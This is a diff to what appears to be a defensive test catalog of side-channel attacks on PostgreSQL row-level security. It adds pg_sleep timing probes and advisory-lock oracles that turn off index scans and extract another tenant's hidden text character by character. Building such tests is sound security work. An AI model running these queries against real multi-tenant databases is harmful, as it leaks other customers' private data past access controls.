@@ -23,6 +23,29 @@ async function spell(
 
 const literal = (text: string) => `'${text.replaceAll("'", "''")}'`;
 
+const SEQUENTIAL = 'SET enable_indexscan = off; SET enable_bitmapscan = off; SET enable_indexonlyscan = off';
+
+/** Spells B's text by a lock that is taken for a row whose text is below a guess, whether or not the row is seen. */
+async function spellByLocks(ask: (sql: string) => Promise<string>, table: string): Promise<string> {
+  await ask(SEQUENTIAL);
+  let lock = 0;
+  return spell(
+    async (guess) => {
+      lock++;
+      await ask(
+        `SELECT 1 FROM ${table} WHERE CASE WHEN tenant_id = '{B}' AND body COLLATE "C" < ${literal(guess)} THEN pg_try_advisory_lock(${lock}) END`,
+      );
+      return /"1"/.test(
+        await ask(
+          `SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND objid = ${lock} AND pid = pg_backend_pid()`,
+        ),
+      );
+    },
+    'of B',
+    8,
+  );
+}
+
 /** What tells something about rows that it does not show. */
 export const oracles: readonly Attack[] = [
   {
@@ -106,23 +129,24 @@ export const oracles: readonly Attack[] = [
   {
     id: 'O06',
     title: 'time, bit by bit',
-    tries:
-      'sleeps once for each row whose hidden text begins with a letter: rows of others never reach the function',
+    tries: 'sleeps for each row whose hidden text begins with a letter',
     steps: [
       {
         learn: async (ask) => {
+          await ask(SEQUENTIAL);
           const started = Date.now();
           await ask(
             `SELECT count(*) FROM note WHERE CASE WHEN body LIKE 'of B%' THEN pg_sleep(3) IS NOT NULL END`,
           );
           await ask(
-            `SELECT count(*) FROM note WHERE CASE WHEN body < 'of B~' AND body > 'of B' THEN pg_sleep(3) IS NOT NULL END`,
+            `SELECT count(*) FROM note WHERE CASE WHEN body > 'of B' THEN pg_sleep(3) IS NOT NULL END`,
           );
           return Date.now() - started > 2500 ? 'of B: secret' : '';
         },
       },
     ],
-    plain: 'holds',
+    prepare: 'ANALYZE note',
+    plain: 'leaks',
   },
   {
     id: 'O07',
@@ -212,5 +236,44 @@ export const oracles: readonly Attack[] = [
       b(READ),
     ],
     plain: 'holds',
+  },
+  {
+    id: 'O12',
+    title: 'a condition that PostgreSQL checks before the policy',
+    tries:
+      'a CASE whose comparison is leakproof and whose function takes no column: PostgreSQL checks it first if it costs less than the policy, and the function leaves a trace',
+    prepare: 'ANALYZE note',
+    steps: [{ learn: (ask) => spellByLocks(ask, 'note') }],
+    plain: 'leaks',
+  },
+  {
+    id: 'O13',
+    title: 'the same on a table that set contexts read',
+    tries: 'the policy of such a table looks for the tenant in a list, which costs more',
+    prepare: 'ANALYZE memo',
+    steps: [{ learn: (ask) => spellByLocks(ask, 'memo') }],
+    open: 'The policy of a table with `readableBySet` or `sharedTenant` compares with a list, and costs more than the condition.',
+    plain: 'leaks',
+  },
+  {
+    id: 'O14',
+    title: 'the cheapest condition there is',
+    tries:
+      'counts, by how often a lock was taken, the rows whose column is null: one function, as cheap as the policy',
+    prepare: `UPDATE note SET "notebookId" = 11 WHERE id = 1; ANALYZE note`,
+    steps: [
+      {
+        learn: async (ask) => {
+          await ask(SEQUENTIAL);
+          await ask(
+            `SELECT 1 FROM note WHERE CASE WHEN "notebookId" IS NULL THEN pg_try_advisory_lock(1) END`,
+          );
+          const unlocked = await ask('SELECT pg_advisory_unlock(1) AS u FROM generate_series(1, 9)');
+          // A itself has one row like that.
+          return unlocked.split('true').length - 1 > 1 ? 'of B: secret' : '';
+        },
+      },
+    ],
+    plain: 'leaks',
   },
 ];
